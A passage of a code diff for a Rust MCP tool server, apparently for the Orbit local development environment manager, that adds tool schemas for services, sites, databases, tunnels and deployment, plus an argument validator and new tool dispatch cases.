+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "name": { "type": "string", "description": "Task name (letters, digits, '-' or '_'; also the log file name)" },
+                    "command": { "type": "string", "description": "Shell command to run (e.g., 'php artisan schedule:run')" },
+                    "interval_secs": { "type": "number", "description": "Seconds between runs (at least 10)" },
+                    "working_dir": { "type": "string", "description": "Absolute directory to run in, usually the site root" }
+                },
+                "required": ["name", "command", "interval_secs", "working_dir"]
+            }
+        },
+        {
+            "name": "list_scheduled_tasks",
+            "description": "List scheduled tasks with their interval, last run, seconds until the next run, whether the last run is still going, and log path.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "remove_scheduled_task",
+            "description": "Remove a scheduled task. A run already in progress is left to finish; its log is kept.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "name": { "type": "string", "description": "Task name" }
+                },
+                "required": ["name"]
+            }
+        },
+        // ─── File Manager ───────────────────────────────
+        {
+            "name": "reveal_path",
+            "description": "Open the system file manager (Explorer/Finder/xdg file manager) at a file or folder, selecting the file where the platform supports it. Use it to show where an export, generated config or log was written.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "path": { "type": "string", "description": "Absolute path to an existing file or folder" }
+                },
+                "required": ["path"]
+            }
+        },
+        // ─── Service Install/Uninstall ──────────────────
+        {
+            "name": "install_service",
+            "description": "Install a service from the Orbit registry. Downloads and extracts the service binary. Supported: nginx, php, mariadb, postgresql, mongodb, redis, nodejs, python, bun, deno, go, apache, mailpit, meilisearch, composer, rust.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "service": { "type": "string", "description": "Service to install (e.g., nginx, php, mariadb, redis)" },
+                    "version": { "type": "string", "description": "Version to install (e.g., 8.4 for PHP). Uses latest if omitted." },
+                    "use_lock": { "type": "boolean", "description": "Install exactly the version recorded in config/versions.lock (written on every successful install) instead of the latest (default: false)" }
+                },
+                "required": ["service"]
+            }
+        },
+        {
+            "name": "uninstall_service",
+            "description": "Uninstall a service by removing its directory. Stops the service first if running.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "service": { "type": "string", "description": "Service to uninstall (e.g., nginx, mariadb, php-8.4)" }
+                },
+                "required": ["service"]
+            }
+        },
+        {
+            "name": "refresh_versions",
+            "description": "Refresh service version information: expires the Orbit app's cached version lists (refetched on next use, normally kept for the version cache TTL) and returns installed vs latest vs locked versions for each installed service.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        // ─── AI Diagnostics ────────────────────────────────
+        {
+            "name": "diagnose_service",
+            "description": "Run a comprehensive health check on a service. Checks binary existence, port status, process state, config validation, and error logs. Returns status (healthy/degraded/down/not_installed), issues, suggestions, and details.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "name": { "type": "string", "description": "Service name (e.g., nginx, php-8.4, mariadb, redis, postgresql)" }
+                },
+                "required": ["name"]
+            }
+        },
+        {
+            "name": "diagnose_site",
+            "description": "Run a health check on a local development site. Checks site config, web server status, PHP version, hosts entry, SSL certs (including certificates about to expire), and reachability.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" }
+                },
+                "required": ["domain"]
+            }
+        },
+        {
+            "name": "analyze_logs",
+            "description": "Analyze log files for error patterns. Groups errors by frequency, provides known solutions for common issues (502 Bad Gateway, Permission denied, PHP Fatal, etc.).",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "service": { "type": "string", "description": "Service name to analyze logs for. If omitted, analyzes all available logs." },
+                    "lines": { "type": "number", "description": "Number of lines to analyze from each log (default: 200)" },
+                    "severity": { "type": "string", "description": "Minimum severity: error, warning, all (default: error)" }
+                },
+                "required": []
+            }
+        },
+        {
+            "name": "get_recent_errors",
+            "description": "Fast check for what broke recently: reads only the tail of each log and returns error/fatal lines newer than the cutoff, sorted by time with their source log. Logs without parseable timestamps contribute errors from their last few lines (time: null).",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "minutes": { "type": "number", "description": "How far back to look, in minutes (default: 5, max 525600, a year)" }
+                },
+                "required": []
+            }
+        },
+        {
+            "name": "logs_summary",
+            "description": "At-a-glance overview of every log: size, last-modified time, whether it was written in the last 15 minutes, and error/warning counts from its last 32 KB. Use analyze_logs or read_log to drill into a noisy log.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "check_permissions",
+            "description": "Check that Orbit can write the hosts file, its data/config directories and the MariaDB data directory. Reports the exact permission/ACL problem and a remediation command per path. With fix=true, attempts to take ownership/grant write access (Windows needs an elevated Orbit).",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "fix": { "type": "boolean", "description": "Try to repair paths that are not writable (default: false)" }
+                },
+                "required": []
+            }
+        },
+        {
+            "name": "get_health_report",
+            "description": "Generate a comprehensive system health report. Checks all services, port conflicts, disk usage, site issues, large log files, and calculates a health score (0-100).",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "whats_on_port",
+            "description": "Show which processes (PID and name) are listening on a TCP port, and which Orbit service each belongs to, if any. Use it when start_service fails because a port is in use.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "port": { "type": "number", "description": "TCP port (e.g., 80, 3306, 9004)" }
+                },
+                "required": ["port"]
+            }
+        },
+        {
+            "name": "free_port",
+            "description": "Kill the processes listening on a TCP port. Without confirm=true it only lists what would be killed. Prefer stop_service for Orbit's own services.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "port": { "type": "number", "description": "TCP port to free" },
+                    "confirm": { "type": "boolean", "description": "Actually kill the processes (default: false, dry run)" }
+                },
+                "required": ["port"]
+            }
+        },
+        // ─── Blueprint System ──────────────────────────────
+        {
+            "name": "list_blueprints",
+            "description": "List all available project blueprints. Blueprints define a complete project setup: required services, site template, and scaffold commands. Includes user blueprints from config/blueprints/*.json (same fields as get_blueprint returns, plus env_template), which override built-ins of the same name; source tells which is which.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "get_blueprint",
+            "description": "Get detailed information about a specific blueprint including required services, template, scaffold commands, and PHP extensions.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "name": { "type": "string", "description": "Blueprint name (e.g., laravel-vite, nextjs-fullstack, django)" }
+                },
+                "required": ["name"]
+            }
+        },
+        {
+            "name": "create_from_blueprint",
+            "description": "Create a complete project from a blueprint. Validates required services, starts them, creates a site with the correct template, runs scaffold commands, adds hosts entry, generates SSL if needed, and writes .env file. One-click project setup.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "blueprint": { "type": "string", "description": "Blueprint name (e.g., laravel-vite, django, nextjs-fullstack)" },
+                    "domain": { "type": "string", "description": "Domain name (e.g., myapp.test)" },
+                    "path": { "type": "string", "description": "Project directory path" },
+                    "php_version": { "type": "string", "description": "PHP version override (default: 8.4)" },
+                    "ssl": { "type": "boolean", "description": "Serve the site over HTTPS with a generated certificate; .env URLs use https:// (default: false)" },
+                    "rollback": { "type": "boolean", "description": "If site creation or a scaffold command fails, delete the site and the project directory (if Orbit created it) and return the cleanup steps instead of finishing with warnings (default: false)" }
+                },
+                "required": ["blueprint", "domain", "path"]
+            }
+        },
+        {
+            "name": "start_site_app",
+            "description": "Start a site's development server using its configured dev_command. Only works for sites that have a dev_command set (typically from blueprint creation). The process runs in the background; its output goes to logs/site-apps/<domain>.log (see site_app_log).",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" }
+                },
+                "required": ["domain"]
+            }
+        },
+        {
+            "name": "stop_site_app",
+            "description": "Stop a site's development server that was previously started with start_site_app.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" }
+                },
+                "required": ["domain"]
+            }
+        },
+        {
+            "name": "site_app_log",
+            "description": "Read the last lines of a site's dev server output (Vite, Next, etc.) captured by start_site_app. The log is kept after the app stops or crashes.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" },
+                    "lines": { "type": "number", "description": "Number of lines from the end (default: 100)" }
+                },
+                "required": ["domain"]
+            }
+        },
+        // ─── Tunnels ─────────────────────────────────────
+        {
+            "name": "tunnel_start",
+            "description": "Expose a site publicly through a tunnel (cloudflared quick tunnel, or ngrok if cloudflared is not installed). Returns the public URL. The tunnel keeps running until tunnel_stop.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" }
+                },
+                "required": ["domain"]
+            }
+        },
+        {
+            "name": "tunnel_stop",
+            "description": "Stop a tunnel started with tunnel_start.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain (e.g., myapp.test)" }
+                },
+                "required": ["domain"]
+            }
+        },
+        // ─── MongoDB ──────────────────────────────────────
+        {
+            "name": "mongo_list_databases",
+            "description": "List all MongoDB databases. Requires MongoDB to be running.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "mongo_list_collections",
+            "description": "List all collections in a MongoDB database.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "database": { "type": "string", "description": "Database name" }
+                },
+                "required": ["database"]
+            }
+        },
+        {
+            "name": "mongo_execute",
+            "description": "Execute a JavaScript command in a MongoDB database via mongosh. Queries are executed directly — use caution with destructive operations.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "database": { "type": "string", "description": "Database name" },
+                    "command": { "type": "string", "description": "JavaScript command to execute (e.g., 'db.users.find({})' or 'db.stats()')" }
+                },
+                "required": ["database", "command"]
+            }
+        },
+        {
+            "name": "mongo_server_status",
+            "description": "Get MongoDB server status: version, uptime, connections, memory, total storage, and per-database sizes (from serverStatus, stats and listDatabases). Requires MongoDB to be running.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "mongo_connection_info",
+            "description": "Get the MongoDB connection string apps should use (e.g., MONGODB_URI in .env). Honors mongo_uri / mongo_user / mongo_password / mongo_auth_db from config/db.json.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "mongo_export",
+            "description": "Export a MongoDB collection or database with the MongoDB Database Tools. The output extension picks the format: .json (mongoexport, needs a collection), .bson (mongodump of one collection), .archive or .gz (mongodump archive). Returns the output path and document count. Requires MongoDB to be running.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "database": { "type": "string", "description": "Database name" },
+                    "collection": { "type": "string", "description": "Collection name (omit to dump the whole database to an archive)" },
+                    "output": { "type": "string", "description": "Output file path (default: <database>.<collection>.json, or <database>.archive without a collection)" }
+                },
+                "required": ["database"]
+            }
+        },
+        {
+            "name": "mongo_import",
+            "description": "Import a file into a MongoDB database. .json/.jsonl/.csv use mongoimport (JSON arrays detected automatically), .bson/.archive/.gz use mongorestore. Returns the document count. Requires MongoDB to be running.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "database": { "type": "string", "description": "Target database name" },
+                    "file": { "type": "string", "description": "Path to the file to import" },
+                    "collection": { "type": "string", "description": "Target collection for .json/.csv/.bson files (default: file name without extension)" }
+                },
+                "required": ["database", "file"]
+            }
+        },
+        // ─── SQLite ───────────────────────────────────────
+        {
+            "name": "sqlite_list_tables",
+            "description": "List tables and views in an SQLite database file (e.g. the db.sqlite3 of a Django/Flask/Laravel site). Uses bin/sqlite/sqlite3 or sqlite3 on PATH.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "db_file": { "type": "string", "description": "Absolute path to the database file" }
+                },
+                "required": ["db_file"]
+            }
+        },
+        {
+            "name": "sqlite_schema",
+            "description": "Show an SQLite table's CREATE statement, columns, indexes and foreign keys.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "db_file": { "type": "string", "description": "Absolute path to the database file" },
+                    "table": { "type": "string", "description": "Table name" }
+                },
+                "required": ["db_file", "table"]
+            }
+        },
+        {
+            "name": "sqlite_execute",
+            "description": "Run SQL against an SQLite database file. Returns result rows as JSON. Stops at the first failing statement.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "db_file": { "type": "string", "description": "Absolute path to the database file" },
+                    "query": { "type": "string", "description": "SQL to run" }
+                },
+                "required": ["db_file", "query"]
+            }
+        },
+        // Deploy tools
+        {
+            "name": "deploy_list_connections",
+            "description": "List all global server connections (SSH/FTP). These are shared across sites.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {},
+                "required": []
+            }
+        },
+        {
+            "name": "deploy_test_connection",
+            "description": "Test a server connection by attempting to authenticate. Returns success message or error details.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "connection_name": { "type": "string", "description": "Connection name" }
+                },
+                "required": ["connection_name"]
+            }
+        },
+        {
+            "name": "deploy_ssh_execute",
+            "description": "Execute a remote command via SSH on a server connection. Returns command output.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "connection_name": { "type": "string", "description": "Connection name" },
+                    "command": { "type": "string", "description": "Shell command to execute on remote server" }
+                },
+                "required": ["connection_name", "command"]
+            }
+        },
+        {
+            "name": "deploy_sync",
+            "description": "Deploy site files to remote server via SFTP/FTP. Uses blake3 hashing for diff-based sync — only changed files are uploaded.",
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "domain": { "type": "string", "description": "Site domain" },
+                    "connection_name": { "type": "string", "description": "Connection name" }
+                },
+                "required": ["domain", "connection_name"]
+            }
         },
         {
             "name": "deploy_status",
@@ -2103,12 +5082,74 @@ fn handle_tools_list(id: &Value) -> Value {
                 "required": ["connection_name", "local_path", "remote_path"]
             }
         }
-    ]);
+    ])
+}
+
+// ─── Tool Argument Validation ───────────────────────────────────
+
+fn json_type_name(value: &Value) -> &'static str {
+    match value {
+        Value::Null => "null",
+        Value::Bool(_) => "boolean",
+        Value::Number(_) => "number",
+        Value::String(_) => "string",
+        Value::Array(_) => "array",
+        Value::Object(_) => "object",
+    }
+}
+
+/// Check tool arguments against the tool's inputSchema: every required field
+/// must be present and every supplied field must have the declared type.
+/// The error message names the offending field.
+fn validate_tool_args(tool: &str, args: &Value) -> Result<(), String> {
+    // Built once; tool_definitions() is a large json! literal
+    static SCHEMAS: std::sync::OnceLock<std::collections::HashMap<String, Value>> = std::sync::OnceLock::new();
+    let schemas = SCHEMAS.get_or_init(|| {
+        tool_definitions().as_array().into_iter().flatten()
+            .filter_map(|d| Some((d["name"].as_str()?.to_string(), d["inputSchema"].clone())))
+            .collect()
+    });
+    let schema = match schemas.get(tool) {
+        Some(schema) => schema,
+        // Unknown tools are reported by handle_tool_call itself
+        None => return Ok(()),
+    };
+
+    if !args.is_object() {
+        return Err(format!("arguments must be an object, got {}", json_type_name(args)));
+    }
+
+    if let Some(required) = schema["required"].as_array() {
+        for field in required.iter().filter_map(|f| f.as_str()) {
+            if args.get(field).map(|v| v.is_null()).unwrap_or(true) {
+                return Err(format!("missing required field '{}'", field));
+            }
+        }
+    }
+
+    if let Some(properties) = schema["properties"].as_object() {
+        for (field, prop) in properties {
+            let (Some(value), Some(expected)) = (args.get(field), prop["type"].as_str()) else {
+                continue;
+            };
+            if value.is_null() {
+                continue;
+            }
+            let actual = json_type_name(value);
+            if actual != expected {
+                return Err(format!("field '{}' must be a {}, got {}", field, expected, actual));
+            }
+        }
+    }
 
-    json_rpc_response(id, json!({ "tools": tools }))
+    Ok(())
 }
 
 fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
+    if let Err(e) = validate_tool_args(name, args) {
+        return json_rpc_error(id, -32602, &format!("Invalid params for {}: {}", name, e));
+    }
+
     let result = match name {
         "list_services" => tool_list_services(),
         "get_service_status" => {
@@ -2134,6 +5175,11 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let lines = args.get("lines").and_then(|v| v.as_u64()).unwrap_or(50) as usize;
             tool_read_log(log_name, lines)
         }
+        "tail_log" => {
+            let log_name = args.get("name").and_then(|v| v.as_str()).unwrap_or("");
+            let from_byte = args.get("from_byte").and_then(|v| v.as_u64());
+            tool_tail_log(log_name, from_byte)
+        }
         "list_databases" => tool_list_databases(),
         "create_database" => {
             let db_name = args.get("name").and_then(|v| v.as_str()).unwrap_or("");
@@ -2148,6 +5194,13 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
                 .unwrap_or_default();
             tool_run_orbit_command(command, &cmd_args)
         }
+        "run_in_project" => {
+            let project = args.get("project_path").and_then(|v| v.as_str()).unwrap_or("");
+            let command = args.get("command").and_then(|v| v.as_str()).unwrap_or("");
+            let timeout_secs = args.get("timeout_secs").and_then(|v| v.as_u64());
+            let confirm = args.get("confirm").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_run_in_project(project, command, timeout_secs, confirm)
+        }
         // MariaDB extended
         "list_tables" => {
             let db = args.get("database").and_then(|v| v.as_str()).unwrap_or("");
@@ -2163,6 +5216,8 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let table = args.get("table").and_then(|v| v.as_str()).unwrap_or("");
             tool_describe_table(db, table)
         }
+        "db_process_list" => tool_db_process_list(),
+        "db_status" => tool_db_status(),
         "execute_query" => {
             let db = args.get("database").and_then(|v| v.as_str()).unwrap_or("");
             let query = args.get("query").and_then(|v| v.as_str()).unwrap_or("");
@@ -2172,6 +5227,20 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let name = args.get("name").and_then(|v| v.as_str()).unwrap_or("");
             tool_drop_database(name)
         }
+        "create_db_user" => {
+            let username = args.get("username").and_then(|v| v.as_str()).unwrap_or("");
+            let password = args.get("password").and_then(|v| v.as_str()).unwrap_or("");
+            let host = args.get("host").and_then(|v| v.as_str()).unwrap_or("localhost");
+            tool_create_db_user(username, password, host)
+        }
+        "grant_privileges" => {
+            let username = args.get("username").and_then(|v| v.as_str()).unwrap_or("");
+            let database = args.get("database").and_then(|v| v.as_str()).unwrap_or("");
+            let privileges = args.get("privileges").and_then(|v| v.as_str()).unwrap_or("ALL PRIVILEGES");
+            let host = args.get("host").and_then(|v| v.as_str()).unwrap_or("localhost");
+            tool_grant_privileges(username, database, privileges, host)
+        }
+        "list_db_users" => tool_list_db_users(),
         // PostgreSQL
         "pg_list_databases" => tool_pg_list_databases(),
         "pg_list_tables" => {
@@ -2208,11 +5277,64 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let template = args.get("template").and_then(|v| v.as_str());
             let php_version = args.get("php_version").and_then(|v| v.as_str());
             let ssl = args.get("ssl").and_then(|v| v.as_bool()).unwrap_or(false);
-            tool_create_site(domain, path, template, php_version, ssl)
+            let aliases: Vec<String> = args.get("aliases")
+                .and_then(|v| v.as_array())
+                .map(|arr| arr.iter().filter_map(|v| v.as_str().map(String::from)).collect())
+                .unwrap_or_default();
+            let hsts = args.get("hsts").and_then(|v| v.as_bool()).unwrap_or(false);
+            // scaffold_index is the flag's earlier name
+            let scaffold = args.get("scaffold").or_else(|| args.get("scaffold_index"))
+                .and_then(|v| v.as_bool()).unwrap_or(false);
+            // Out-of-range ports become 0, which tool_create_site rejects
+            let proxy_port = args.get("proxy_port").and_then(|v| v.as_u64())
+                .map(|p| u16::try_from(p).unwrap_or(0));
+            let gzip = args.get("gzip").and_then(|v| v.as_bool()).unwrap_or(false);
+            let brotli = args.get("brotli").and_then(|v| v.as_bool()).unwrap_or(false);
+            let dry_run = args.get("dry_run").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_create_site(domain, &aliases, path, CreateSiteOptions {
+                template, php_version, ssl, hsts, scaffold, proxy_port, gzip, brotli, dry_run,
+            })
+        }
+        "import_site" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            let path = args.get("path").and_then(|v| v.as_str()).unwrap_or("");
+            tool_import_site(domain, path)
         }
         "delete_site" => {
             let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
-            tool_delete_site(domain)
+            let dry_run = args.get("dry_run").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_delete_site(domain, dry_run)
+        }
+        "set_site_php_version" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            let version = args.get("version").and_then(|v| v.as_str()).unwrap_or("");
+            tool_set_site_php_version(domain, version)
+        }
+        "get_site" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            tool_get_site(domain)
+        }
+        "update_site" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            let aliases = args.get("aliases").and_then(|v| v.as_array())
+                .map(|arr| arr.iter().filter_map(|v| v.as_str().map(String::from)).collect());
+            tool_update_site(domain, SiteUpdate {
+                path: args.get("path").and_then(|v| v.as_str()),
+                aliases,
+                php_version: args.get("php_version").and_then(|v| v.as_str()),
+                ssl: args.get("ssl").and_then(|v| v.as_bool()),
+                hsts: args.get("hsts").and_then(|v| v.as_bool()),
+                // Out-of-range ports become 0, which tool_update_site rejects
+                proxy_port: args.get("proxy_port").and_then(|v| v.as_u64())
+                    .map(|p| u16::try_from(p).unwrap_or(0)),
+                gzip: args.get("gzip").and_then(|v| v.as_bool()),
+                brotli: args.get("brotli").and_then(|v| v.as_bool()),
+            })
+        }
+        "switch_site_server" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            let server = args.get("server").and_then(|v| v.as_str()).unwrap_or("");
+            tool_switch_site_server(domain, server)
         }
         "get_site_config" => {
             let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
@@ -2223,6 +5345,7 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
             tool_generate_ssl(domain)
         }
+        "regenerate_all_ssl" => tool_regenerate_all_ssl(),
         "list_ssl_certs" => tool_list_ssl_certs(),
         // PHP config
         "list_php_extensions" => {
@@ -2235,6 +5358,21 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let enabled = args.get("enabled").and_then(|v| v.as_bool()).unwrap_or(true);
             tool_toggle_php_extension(version, ext, enabled)
         }
+        "toggle_xdebug" => {
+            let version = args.get("version").and_then(|v| v.as_str()).unwrap_or("");
+            let enabled = args.get("enabled").and_then(|v| v.as_bool()).unwrap_or(true);
+            let mode = args.get("mode").and_then(|v| v.as_str());
+            tool_toggle_xdebug(version, enabled, mode)
+        }
+        "list_apache_modules" => {
+            let domain = args.get("domain").and_then(|v| v.as_str());
+            tool_list_apache_modules(domain)
+        }
+        "toggle_apache_module" => {
+            let module = args.get("module").and_then(|v| v.as_str()).unwrap_or("");
+            let enabled = args.get("enabled").and_then(|v| v.as_bool()).unwrap_or(true);
+            tool_toggle_apache_module(module, enabled)
+        }
         "get_php_config" => {
             let version = args.get("version").and_then(|v| v.as_str()).unwrap_or("");
             tool_get_php_config(version)
@@ -2245,6 +5383,14 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let value = args.get("value").and_then(|v| v.as_str()).unwrap_or("");
             tool_set_php_config(version, key, value)
         }
+        "get_opcache_stats" => {
+            let version = args.get("version").and_then(|v| v.as_str()).unwrap_or("");
+            tool_get_opcache_stats(version)
+        }
+        "reset_opcache" => {
+            let version = args.get("version").and_then(|v| v.as_str()).unwrap_or("");
+            tool_reset_opcache(version)
+        }
         // Composer
         "composer_require" => {
             let project = args.get("project_path").and_then(|v| v.as_str()).unwrap_or("");
@@ -2261,13 +5407,70 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let script = args.get("script").and_then(|v| v.as_str()).unwrap_or("");
             tool_composer_run(project, script)
         }
+        "composer_outdated" => {
+            let project = args.get("project_path").and_then(|v| v.as_str()).unwrap_or("");
+            tool_composer_outdated(project)
+        }
+        "composer_show" => {
+            let project = args.get("project_path").and_then(|v| v.as_str()).unwrap_or("");
+            let package = args.get("package").and_then(|v| v.as_str()).unwrap_or("");
+            tool_composer_show(project, package)
+        }
+        "composer_why" => {
+            let project = args.get("project_path").and_then(|v| v.as_str()).unwrap_or("");
+            let package = args.get("package").and_then(|v| v.as_str()).unwrap_or("");
+            tool_composer_why(project, package)
+        }
+        // Node scripts
+        "npm_run" => {
+            let project = args.get("project_path").and_then(|v| v.as_str()).unwrap_or("");
+            let script = args.get("script").and_then(|v| v.as_str()).unwrap_or("");
+            let package_manager = args.get("package_manager").and_then(|v| v.as_str());
+            tool_npm_run(project, script, package_manager)
+        }
+        // Laravel Artisan
+        "artisan_migrate" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            tool_artisan_migrate(domain)
+        }
+        "artisan_migrate_fresh" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            let seed = args.get("seed").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_artisan_migrate_fresh(domain, seed)
+        }
+        "artisan_tinker" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            let expr = args.get("expr").and_then(|v| v.as_str()).unwrap_or("");
+            tool_artisan_tinker(domain, expr)
+        }
+        "artisan_route_list" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            tool_artisan_route_list(domain)
+        }
+        "artisan_cache_clear" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            tool_artisan_cache_clear(domain)
+        }
         // Redis
         "redis_command" => {
             let cmd = args.get("command").and_then(|v| v.as_str()).unwrap_or("");
             tool_redis_command(cmd)
         }
         "redis_info" => tool_redis_info(),
+        "redis_scan" => {
+            let pattern = args.get("pattern").and_then(|v| v.as_str()).unwrap_or("*");
+            let db = args.get("db").and_then(|v| v.as_u64()).unwrap_or(0);
+            let count = args.get("count").and_then(|v| v.as_u64()).unwrap_or(100);
+            tool_redis_scan(pattern, db, count)
+        }
+        "redis_flushdb" => tool_redis_flushdb(args.get("db").and_then(|v| v.as_u64())),
         // Mailpit
+        "send_test_email" => {
+            let to = args.get("to").and_then(|v| v.as_str()).unwrap_or("");
+            let subject = args.get("subject").and_then(|v| v.as_str()).unwrap_or("");
+            let body = args.get("body").and_then(|v| v.as_str()).unwrap_or("");
+            tool_send_test_email(to, subject, body)
+        }
         "list_emails" => {
             let limit = args.get("limit").and_then(|v| v.as_u64()).unwrap_or(50) as usize;
             tool_list_emails(limit)
@@ -2277,6 +5480,15 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             tool_get_email(id)
         }
         "delete_emails" => tool_delete_emails(),
+        // Meilisearch
+        "meili_status" => tool_meili_status(),
+        "meili_list_indexes" => tool_meili_list_indexes(),
+        "meili_search" => {
+            let index = args.get("index").and_then(|v| v.as_str()).unwrap_or("");
+            let query = args.get("query").and_then(|v| v.as_str()).unwrap_or("");
+            let limit = args.get("limit").and_then(|v| v.as_u64()).unwrap_or(20) as usize;
+            tool_meili_search(index, query, limit)
+        }
         // Config files
         "read_config" => {
             let config_type = args.get("type").and_then(|v| v.as_str()).unwrap_or("");
@@ -2298,9 +5510,19 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let content = args.get("content").and_then(|v| v.as_str()).unwrap_or("");
             tool_write_site_config(domain, content)
         }
+        "format_nginx_config" => {
+            let content = args.get("content").and_then(|v| v.as_str()).unwrap_or("");
+            tool_format_nginx_config(content)
+        }
         // Batch operations
-        "start_all_services" => tool_start_all_services(),
+        "start_all_services" => {
+            let skip_failing = args.get("skip_failing").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_start_all_services(skip_failing)
+        }
+        "preflight_check" => tool_preflight_check(),
         "stop_all_services" => tool_stop_all_services(),
+        "get_pending_restarts" => tool_get_pending_restarts(),
+        "apply_changes" => tool_apply_changes(),
         // Hosts
         "hosts_list" => tool_hosts_list(),
         "hosts_add" => {
@@ -2311,6 +5533,12 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
             tool_hosts_remove(domain)
         }
+        "hosts_restore" => tool_hosts_restore(),
+        // Database connectivity
+        "ping_database" => {
+            let engine = args.get("engine").and_then(|v| v.as_str()).unwrap_or("");
+            tool_ping_database(engine)
+        }
         // DB export/import
         "db_export" => {
             let db = args.get("database").and_then(|v| v.as_str()).unwrap_or("");
@@ -2322,21 +5550,60 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let file = args.get("file").and_then(|v| v.as_str()).unwrap_or("");
             tool_db_import(db, file)
         }
+        // Environment Backup
+        "create_backup" => {
+            let output = args.get("output_path").and_then(|v| v.as_str()).unwrap_or("");
+            let include_data: Vec<String> = args.get("include_data")
+                .and_then(|v| v.as_array())
+                .map(|arr| arr.iter().filter_map(|v| v.as_str().map(String::from)).collect())
+                .unwrap_or_default();
+            tool_create_backup(output, &include_data)
+        }
+        "restore_backup" => {
+            let archive = args.get("archive_path").and_then(|v| v.as_str()).unwrap_or("");
+            let force = args.get("force").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_restore_backup(archive, force)
+        }
         // Log management
         "clear_log" => {
             let name = args.get("name").and_then(|v| v.as_str()).unwrap_or("");
             tool_clear_log(name)
         }
+        "rotate_log" => {
+            let name = args.get("name").and_then(|v| v.as_str()).unwrap_or("");
+            let keep = args.get("keep").and_then(|v| v.as_u64());
